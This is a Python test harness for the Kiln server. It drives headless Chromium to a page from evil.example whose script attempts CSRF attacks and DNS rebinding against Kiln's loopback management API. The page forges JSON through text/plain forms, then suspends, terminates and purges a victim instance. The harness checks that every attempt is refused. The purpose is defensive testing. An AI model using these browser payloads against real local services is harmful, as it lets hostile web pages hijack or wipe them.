"""Cross-site attacks on the key-less loopback listener, from a real browser (headless Chromium).

A page from another origin, `http://evil.example:PORT` (Chromium resolves evil.example to
127.0.0.1), tries what a web page the operator has open could try:

1. cross-site "simple" requests to `http://127.0.0.1:PORT/...`: `fetch` in `no-cors` mode with a
   `text/plain` body, and auto-submitted HTML forms (start with a chosen id, suspend, terminate,
   restart, raise an event);
2. DNS rebinding: the page's own origin first served the page, then (as after a rebinding DNS
   answer) reaches Kiln's management listener on the same name and port. The page's requests are
   then same-origin, so it could read answers and send any method: it lists instances, starts one
   with JSON, terminates and purges the victim.

Every attack must fail: no instance with an attacker's id exists, the victim is still running,
and the page read nothing. Usage: cross_site.py KILN_BINARY (needs chromium on PATH).
"""

import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request

BASE = "/runtime/webhooks/durabletask"
ATTACKER_IDS = ["xs-fetch", "xs-form", "rebound"]
DEADLINE = 60


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def manage(port, method, path, body=None):
    """A request as a local program sends it (loopback Host, JSON)."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(f"http://127.0.0.1:{port}{BASE}{path}", data=data, method=method)
    if data is not None:
        request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, json.loads(response.read() or b"null")
    except urllib.error.HTTPError as err:
        return err.code, json.loads(err.read() or b"null")


PAGE = """<!doctype html><html><body><script>
const kiln = "http://127.0.0.1:%(port)d%(base)s";
const collector = "http://127.0.0.1:%(collector)d";
const victim = "%(victim)s";
function report(kind, value) {
  return fetch(collector + "/report", {method: "POST", mode: "no-cors",
    body: JSON.stringify({kind, value})});
}
function form(action, name, value) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.appendChild(frame);
  const f = document.createElement("form");
  f.method = "POST"; f.action = action; f.enctype = "text/plain"; f.target = frame.name;
  const field = document.createElement("input");
  field.name = name; field.value = value;
  f.appendChild(field); document.body.appendChild(f); f.submit();
}
async function crossSite() {
  const simple = (path, body) => fetch(kiln + path, {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "text/plain"}, body}).catch(() => null);
  await simple("/orchestrators/approval/xs-fetch", '{"subject":"x","timeout_seconds":3600}');
  await simple("/instances/" + victim + "/suspend", "");
  await simple("/instances/" + victim + "/raiseEvent/Approval", '{"approved":true,"by":"evil"}');
  // A text/plain form sends "name=value": this one is the JSON {"subject":…,"pad":"="}.
  form(kiln + "/orchestrators/approval/xs-form", '{"subject":"x","timeout_seconds":3600,"pad":"', '"}');
  form(kiln + "/instances/" + victim + "/terminate", "x", "");
  form(kiln + "/instances/" + victim + "/restart", "x", "");
  await new Promise(r => setTimeout(r, 1000));
}
async function rebound() {
  // Same origin now: answers are readable, any method is allowed without a preflight.
  const results = {};
  const attempt = async (name, path, init) => {
    try {
      const response = await fetch(path, init);
      results[name] = {status: response.status, body: await response.text()};
    } catch (e) { results[name] = {error: String(e)}; }
  };
  await attempt("list", "%(base)s/instances");
  await attempt("start", "%(base)s/orchestrators/approval/rebound", {method: "POST",
    headers: {"Content-Type": "application/json"}, body: '{"subject":"x","timeout_seconds":3600}'});
  await attempt("terminate", "%(base)s/instances/" + victim + "/terminate", {method: "POST"});
  await attempt("purge", "%(base)s/instances/" + victim, {method: "DELETE"});
  return results;
}
(async () => {
  await report("loaded", location.href);
  // Wait until the harness has "rebound" this page's name and port to Kiln.
  for (;;) {
    const answer = await fetch(collector + "/go").then(r => r.text()).catch(() => "");
    if (answer === "go") break;
    await new Promise(r => setTimeout(r, 100));
  }
  await crossSite();
  await report("rebound", await rebound());
  await report("done", true);
})();
</script></body></html>"""


class Collector:
    """The harness's side channel: the page reports here; it also says when to go on."""

    def __init__(self):
        self.reports = {}
        self.go = threading.Event()
        self.changed = threading.Condition()
        collector = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                body = b"go" if collector.go.is_set() else b"wait"
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                data = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                with collector.changed:
                    collector.reports[data["kind"]] = data["value"]
                    collector.changed.notify_all()
                self.send_response(204)
                self.end_headers()

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def wait_for(self, kind):
        with self.changed:
            if not self.changed.wait_for(lambda: kind in self.reports, timeout=DEADLINE):
                raise SystemExit(f"FAIL: the page never reported '{kind}' (reports: {self.reports})")
            return self.reports[kind]


def serve_page_once(port, page):
    """Serves the attack page on PORT until it has been fetched, then frees the port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"

        def log_message(self, *args):
            pass

        def do_GET(self):
            body = page.encode() if self.path.startswith("/attack") else b""
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(body)

    server = http.server.HTTPServer(("127.0.0.1", port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def start_kiln(binary, workdir, public, management):
    log = open(os.path.join(workdir, "serve.log"), "wb")
    process = subprocess.Popen(
        [binary, "serve", "--listen", f"127.0.0.1:{public}", "--management-listen", f"127.0.0.1:{management}"],
        cwd=workdir,
        stdout=log,
        stderr=subprocess.STDOUT,
        env={**os.environ, "KILN_LOG": "warn"},
    )
    for _ in range(400):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{management}/readyz", timeout=1)
            return process
        except OSError:
            time.sleep(0.05)
    process.kill()
    raise SystemExit("FAIL: kiln serve did not become ready")


def main():
    binary = os.path.abspath(sys.argv[1])
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if not chromium:
        raise SystemExit("chromium is not installed")
    workdir = tempfile.mkdtemp()
    processes = []
    try:
        collector = Collector()
        shared_port, public_port = free_port(), free_port()
        # The victim's id is known before Kiln starts: the page is served first.
        victim = "victim"
        page = PAGE % {"port": shared_port, "base": BASE, "collector": collector.port, "victim": victim}
        page_server = serve_page_once(shared_port, page)
        browser = subprocess.Popen(
            [
                chromium,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                f"--user-data-dir={workdir}/profile",
                "--host-resolver-rules=MAP evil.example 127.0.0.1",
                f"http://evil.example:{shared_port}/attack.html",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        processes.append(browser)
        print("page loaded from", collector.wait_for("loaded"))
        # DNS rebinding: the name and port that served the page now lead to Kiln.
        page_server.shutdown()
        page_server.server_close()
        kiln = start_kiln(binary, workdir, public_port, shared_port)
        processes.append(kiln)
        status, _ = manage(shared_port, "POST", f"/orchestrators/approval/{victim}", {"subject": "keep", "timeout_seconds": 3600})
        assert status == 202, f"the victim did not start: {status}"
        collector.go.set()
        rebound = collector.wait_for("rebound")
        collector.wait_for("done")

        failures = []
        for name, result in rebound.items():
            if result.get("status") not in (403, 415):
                failures.append(f"rebinding '{name}' was not refused: {result}")
            if victim in result.get("body", ""):
                failures.append(f"rebinding '{name}' read the victim: {result}")
        for attacker_id in ATTACKER_IDS:
            status, body = manage(shared_port, "GET", f"/instances/{attacker_id}")
            if status != 404:
                failures.append(f"an attacker started '{attacker_id}': {status} {body}")
        status, body = manage(shared_port, "GET", f"/instances/{victim}")
        if status not in (200, 202) or body.get("runtimeStatus") != "Running":
            failures.append(f"the victim was changed: {status} {body}")
        # The attacks reached Kiln (they are not merely blocked by the browser): each was refused
        # and logged.
        with open(os.path.join(workdir, "serve.log"), encoding="utf-8", errors="replace") as log:
            refused = log.read().count("request on the loopback listener refused")
        if refused < len(rebound) + 6:
            failures.append(f"only {refused} refusals logged for {len(rebound)} rebinding and 6 cross-site requests")
        if failures:
            print("\n".join(["FAIL:"] + failures))
            sys.exit(1)
        print(f"ok: {len(rebound)} rebinding and 6 cross-site requests reached Kiln and were refused ({refused} logged); the victim is untouched")
    finally:
        for process in processes:
            process.kill()
            process.wait()
        shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    main()
